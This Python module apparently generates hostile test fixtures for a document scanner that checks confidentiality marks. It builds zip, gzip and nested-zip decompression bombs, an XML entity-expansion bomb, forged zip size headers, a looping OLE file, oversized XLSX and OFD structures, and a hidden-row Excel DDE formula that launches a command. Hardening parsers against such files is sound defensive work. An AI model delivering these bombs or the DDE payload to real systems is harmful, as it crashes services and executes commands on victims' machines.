"""Packages made to harm: Word, Excel, OFD, zips, OLE, gzip."""

import gzip
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator, Mapping
from io import BytesIO

from ofd_maker import Ofd, page, text

MILLION = 1_000_000
Content = str | bytes | Iterable[bytes]

_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    'PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"'
    "/></Types>"
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_REL = (
    '<Relationship Id="{id}" Target="{target}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
)


def packed(parts: Mapping[str, Content]) -> bytes:
    """A zip; a part may come in pieces."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in parts.items():
            if isinstance(content, str | bytes):
                package.writestr(name, content)
                continue
            with package.open(name, "w", force_zip64=True) as member:
                for piece in content:
                    member.write(piece)
    return made.getvalue()


def repeated(before: str, piece: str, times: int, after: str) -> Iterator[bytes]:
    """A long text in pieces."""
    yield before.encode()
    whole, rest = divmod(times, 10_000)
    thousand = (piece * 10_000).encode()
    for _ in range(whole):
        yield thousand
    yield (piece * rest).encode()
    yield after.encode()


def word(body: Content, more: Mapping[str, Content] | None = None) -> bytes:
    """A Word document with this main part."""
    types = _TYPES.format(part="word/document.xml", kind="wordprocessingml.document")
    return packed({"[Content_Types].xml": types, "word/document.xml": body, **(more or {})})


def _word(piece: str, times: int, before: str = "", after: str = "") -> bytes:
    head = f"<w:document {_W}><w:body>{before}"
    return word(repeated(head, piece, times, f"{after}</w:body></w:document>"))


_PLAIN = f"<w:document {_W}><w:body><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:body></w:document>"


def empty_paragraphs() -> bytes:
    """33 million empty paragraphs, just under what a package may unpack to."""
    return _word("<w:p/>", 33 * MILLION)


def runs_of_one_paragraph() -> bytes:
    """A hundred megabytes of runs of one sign."""
    run = "<w:r><w:t>一</w:t></w:r>"
    return _word(run, 100 * MILLION // len(run.encode()), "<w:p>", "</w:p>")


def secret_runs() -> bytes:
    """The same with the sign of every mark in each."""
    return _word("<w:r><w:t>密</w:t></w:r>", 200_000, "<w:p>", "</w:p>")


def secret_paragraphs() -> bytes:
    """Paragraphs, each of which may be a mark."""
    return _word("<w:p><w:r><w:t>机密★</w:t></w:r></w:p>", 50_000)


def deep_paragraphs() -> bytes:
    """Runs at the deepest that XML may be, again and again."""
    deep = "<w:p>" + "<w:a>" * 240 + "<w:t>密</w:t>" * 100 + "</w:a>" * 240 + "</w:p>"
    return _word(deep, 500)


def many_attributes() -> bytes:
    """One paragraph with two million attributes."""
    names = (f' a{n}=""'.encode() for n in range(2 * MILLION))
    head = f"<w:document {_W}><w:body><w:p".encode()
    return word(piece for part in ([head], names, [b"/></w:body></w:document>"]) for piece in part)


def deep_xml() -> bytes:
    """Elements 100,000 deep."""
    return word("<a>" * 100_000 + "</a>" * 100_000)


def entity_bomb() -> bytes:
    """Entities of entities."""
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    return word(f"<!DOCTYPE x [{entities}]>" + _PLAIN.format("&a11;"))


def many_members() -> bytes:
    """A document with 100,000 parts."""
    more = {f"word/part{n}.xml": f"<a>{n}</a>" for n in range(100_000)}
    return word(_PLAIN.format("正文"), more)


def _patched(data: bytes, size_bytes: int) -> bytes:
    """The package with this size told of its main part, before the part and in the directory."""
    name, made = b"word/document.xml", bytearray(data)
    for magic, at, length in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        place = 0
        while (place := data.find(magic, place)) >= 0:
            if data[place + length : place + length + len(name)] == name:
                made[place + at : place + at + 4] = struct.pack("<L", size_bytes)
            place += 4
    return bytes(made)


def told_smaller() -> bytes:
    """A part of a gigabyte that says that it is ten bytes."""
    chunk = b"<w:p/>" * 100_000
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    made = b"".join([packer.compress(chunk) for _ in range(1_700)]) + packer.flush()
    whole = bytearray(word(_PLAIN.format("正文")))
    name = b"word/document.xml"
    local = whole.find(name) - 30
    (old,) = struct.unpack_from("<L", whole, local + 18)
    start = local + 30 + len(name)
    grown = len(made) - old
    whole[start : start + old] = made
    struct.pack_into("<L", whole, local + 18, len(made))
    struct.pack_into("<L", whole, local + 22, 10)
    central = whole.rfind(name) - 46
    struct.pack_into("<L", whole, central + 20, len(made))
    struct.pack_into("<L", whole, central + 24, 10)
    end = whole.rfind(b"PK\x05\x06")
    (offset,) = struct.unpack_from("<L", whole, end + 16)
    struct.pack_into("<L", whole, end + 16, offset + grown)
    return bytes(whole)


def told_larger() -> bytes:
    """A part of a hundred bytes that says that it is 190 million."""
    return _patched(word(_PLAIN.format("正文")), 190 * MILLION)


def nested_bombs() -> bytes:
    """Zips in zips, sixteen in each, with a document of 100 MB at the bottom."""
    inner: Content = repeated("", "0" * 100, MILLION, "")
    data = packed({"bottom.txt": inner})
    for _ in range(5):
        data = packed({f"{n}.zip": data for n in range(16)})
    return word(_PLAIN.format("正文"), {"word/embeddings/inside.zip": data})


def quine_like_zip() -> bytes:
    """A zip whose directory names one member 40,000 times."""
    data = packed({"word/embeddings/a.bin": "0" * MILLION})
    end = data.rfind(b"PK\x05\x06")
    (size, start) = struct.unpack_from("<LL", data, end + 12)
    entry = data[start : start + size]
    count = 40_000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size * count, start, 0)
    return data[:start] + entry * count + tail


def _book(
    sheet: Content, strings: Content | None = None, more: Mapping[str, Content] | None = None
) -> bytes:
    types = _TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet")
    listed = '<sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets>'
    book = f"<workbook {_S} {_R}>{listed}</workbook>"
    rels = _REL.format(id="r1", target="worksheets/sheet1.xml", kind="worksheet")
    parts: dict[str, Content] = {}
    if strings is not None:
        types = types.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        rels += _REL.format(id="r2", target="sharedStrings.xml", kind="sharedStrings")
        parts["xl/sharedStrings.xml"] = strings
    return packed(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": _RELS.format(
                _REL.format(id="r0", target="xl/workbook.xml", kind="officeDocument")
            ),
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": _RELS.format(rels),
            "xl/worksheets/sheet1.xml": sheet,
            **parts,
            **(more or {}),
        }
    )


def sheet(rows: str, before: str = "", after: str = "") -> str:
    """A sheet's part."""
    return f"<worksheet {_S}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"


_DDE = '<row r="{row}"><c r="A{row}"><f>cmd|\'/C calc\'!A0</f><v>1</v></c></row>'


def million_rows() -> bytes:
    """A sheet of a million rows of two numbers."""
    rows = (f"<row><c><v>{n}</v></c><c><v>1</v></c></row>".encode() for n in range(MILLION))
    before, after = sheet("|").split("|")
    return _book(piece for part in ([before.encode()], rows, [after.encode()]) for piece in part)


def far_cells() -> bytes:
    """A cell in each corner of what a sheet may hold, which says that it is full."""
    rows = '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'
    rows += '<row r="1048576"><c r="XFD1048576"><f>1+1</f></c></row>'
    return _book(sheet(rows, '<dimension ref="A1:XFD1048576"/>'))


def wide_rows() -> bytes:
    """20,000 rows with one cell each, in the last column."""
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><f>1</f></c></row>' for n in range(1, 20_001))
    return _book(sheet(rows))


def beyond_the_last_row() -> bytes:
    """A row whose number no sheet has."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="999999999"><c><f>1</f></c></row>'
    return _book(sheet(rows))


def hidden_row() -> bytes:
    """A sheet that says that it ends in its first row; a command stands in the fiftieth."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>' + _DDE.format(row=50)
    return _book(sheet(rows, '<dimension ref="A1:A1"/>'))


def many_strings() -> bytes:
    """Two million strings for one cell."""
    strings = repeated(f"<sst {_S}>", "<si><t>字</t></si>", 2 * MILLION, "</sst>")
    return _book(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings)


def long_string() -> bytes:
    """One string of ten million signs in 20,000 cells."""
    strings = repeated(f"<sst {_S}><si><t>", "字", 10 * MILLION, "</t></si></sst>")
    cells = "".join(f'<row><c t="s"><v>0</v></c><c><v>{n}</v></c></row>' for n in range(20_000))
    return _book(sheet(cells), strings)


def merged_cells() -> bytes:
    """A million merged cells."""
    head, tail = sheet("", after="<mergeCells>|</mergeCells>").split("|")
    return _book(repeated(head, '<mergeCell ref="A1:B2"/>', MILLION, tail))


def validations() -> bytes:
    """A million rules for what may be typed, each with a prompt."""
    head, tail = sheet("", after="<dataValidations>|</dataValidations>").split("|")
    rule = '<dataValidation sqref="A1" prompt="填" error="错"/>'
    return _book(repeated(head, rule, MILLION, tail))


def formulas() -> bytes:
    """100,000 formulas that begin like a command and are none."""
    rows = (f"<row><c><f>{'HYPERLINK' * 50}{n}</f></c></row>".encode() for n in range(100_000))
    before, after = sheet("|").split("|")
    return _book(piece for part in ([before.encode()], rows, [after.encode()]) for piece in part)


def _ofd(ofd: Ofd) -> bytes:
    return packed(ofd.all_parts())


def ofd_of_zips() -> bytes:
    """Attachments that are OFDs with attachments."""
    data = _ofd(Ofd(pages=[page(text("正文", 30, 40))]))
    for _ in range(12):
        ofd = Ofd(pages=[page(text("正文", 30, 40))])
        for number in range(4):
            ofd.parts[f"Doc_0/{number}.ofd"] = data
        data = _ofd(ofd.attach("a.ofd", data))
    return data


def ofd_of_texts() -> bytes:
    """A page of 100,000 text objects."""
    texts = "".join(text(f"字{n}", n % 100 * 2, n // 100 * 2, 2) for n in range(100_000))
    return _ofd(Ofd(pages=[page(texts)]))


def ofd_of_units() -> bytes:
    """Composite units that each draw the next ten times."""
    units = "".join(
        f'<ofd:CompositeGraphicUnit ID="{n}"><ofd:Content>'
        + f'<ofd:CompositeObject ResourceID="{n + 1}"/>' * 10
        + "</ofd:Content></ofd:CompositeGraphicUnit>"
        for n in range(10)
    )
    ofd = Ofd(pages=[page('<ofd:CompositeObject ResourceID="0"/>')])
    return _ofd(ofd.resources(units))


def ofd_of_templates() -> bytes:
    """A thousand pages, each with a template of a thousand texts."""
    template = page("".join(text("字", n % 100, n // 10) for n in range(1_000)))
    wants = '<ofd:Template TemplateID="7"/>'
    return _ofd(Ofd(pages=[page("", wants)] * 1_000).template(template))


def ofd_of_steps() -> bytes:
    """A text whose steps are more than it has signs."""
    code = f'<ofd:TextCode X="0" Y="5" DeltaX="{"g 999999999 5 " * 1000}">{"字" * MILLION}'
    item = f'<ofd:TextObject ID="1" Size="5">{code}</ofd:TextCode></ofd:TextObject>'
    return _ofd(Ofd(pages=[page(item)]))


def cyclic_ole() -> bytes:
    """An old document whose table of sectors, and whose directory, run in rings."""
    sector = 512
    head = bytearray(sector)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<LLLLLLLLL", head, 40, 0, 1, 1, 0, 4096, 2, 1, 3, 1)
    struct.pack_into("<109L", head, 76, *[0] * 109)
    table = struct.pack("<128L", 0, 1, 2, 3, *[4] * 124)
    entry = "Root Entry".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 22, 5, 1)
    entry += struct.pack("<LLL", 1, 1, 1) + bytes(36) + struct.pack("<LLL", 2, 1 << 30, 0)
    other = "WordDocument".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 26, 2, 1)
    other += struct.pack("<LLL", 1, 0, 1) + bytes(36) + struct.pack("<LLL", 4, 1 << 30, 0)
    directory = (entry + other + other + other).ljust(sector, b"\0")
    following = struct.pack("<128L", *[3] * 128)
    return bytes(head) + table + directory + bytes(sector) + following + bytes(sector) * 4


def gzip_bomb() -> bytes:
    """A gigabyte of nothing."""
    made = BytesIO()
    with gzip.GzipFile(fileobj=made, mode="wb", compresslevel=1) as bomb:
        for _ in range(1_000):
            bomb.write(bytes(MILLION))
    return made.getvalue()


def gzip_in_word() -> bytes:
    """Twenty of them as pictures."""
    bomb = gzip_bomb()
    return word(_PLAIN.format("正文"), {f"word/media/{n}.emz": bomb for n in range(20)})


def references() -> bytes:
    """Text of 190 MB in which a sign is written as a reference."""
    pieces = repeated("&#26426;&#23494; 😀", "😀 &lt;", 190 * MILLION // 9, "")
    return word(_PLAIN.format("正文"), {"word/media/a.txt": pieces})


def chance_signs() -> bytes:
    """30 MB in which a sign of a mark stands at every third byte."""
    return word(_PLAIN.format("正文"), {"word/a.bin": repeated("", "密", 10 * MILLION, "")})


MADE = {
    "33 M empty paragraphs.docx": empty_paragraphs,
    "100 MB of runs.docx": runs_of_one_paragraph,
    "200,000 runs of 密.docx": secret_runs,
    "50,000 marks.docx": secret_paragraphs,
    "deep runs.docx": deep_paragraphs,
    "2 M attributes.docx": many_attributes,
    "depth 100,000.docx": deep_xml,
    "entities.docx": entity_bomb,
    "100,000 members.docx": many_members,
    "told smaller.docx": told_smaller,
    "told larger.docx": told_larger,
    "nested zips.docx": nested_bombs,
    "one member 40,000 times.docx": quine_like_zip,
    "gzip bombs.docx": gzip_in_word,
    "references.docx": references,
    "a sign at every byte.docx": chance_signs,
    "OLE with rings.docx": cyclic_ole,
    "1 M rows.xlsx": million_rows,
    "XFD1048576.xlsx": far_cells,
    "20,000 rows to XFD.xlsx": wide_rows,
    "row 999,999,999.xlsx": beyond_the_last_row,
    "hidden row.xlsx": hidden_row,
    "2 M strings.xlsx": many_strings,
    "10 M signs in 20,000 cells.xlsx": long_string,
    "1 M merged cells.xlsx": merged_cells,
    "1 M validations.xlsx": validations,
    "100,000 formulas.xlsx": formulas,
    "nested zips.ofd": ofd_of_zips,
    "100,000 texts.ofd": ofd_of_texts,
    "units multiplied.ofd": ofd_of_units,
    "1,000 templates.ofd": ofd_of_templates,
    "steps.ofd": ofd_of_steps,
    "gzip bomb.gz": gzip_bomb,
    "gzip bomb.bin": gzip_bomb,
}
